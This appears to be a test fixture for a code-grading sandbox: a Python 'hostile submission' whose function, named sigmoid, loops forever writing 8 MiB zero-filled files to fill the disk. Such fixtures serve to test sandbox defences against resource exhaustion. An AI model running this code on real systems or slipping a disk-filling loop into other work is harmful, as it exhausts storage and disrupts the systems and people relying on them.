"""Hostile submission: fill_disk."""

import itertools


def sigmoid(z):
    for number in itertools.count():
        with open(f"filler-{number}.bin", "wb") as stream:
            stream.write(bytes(8 * 2**20))
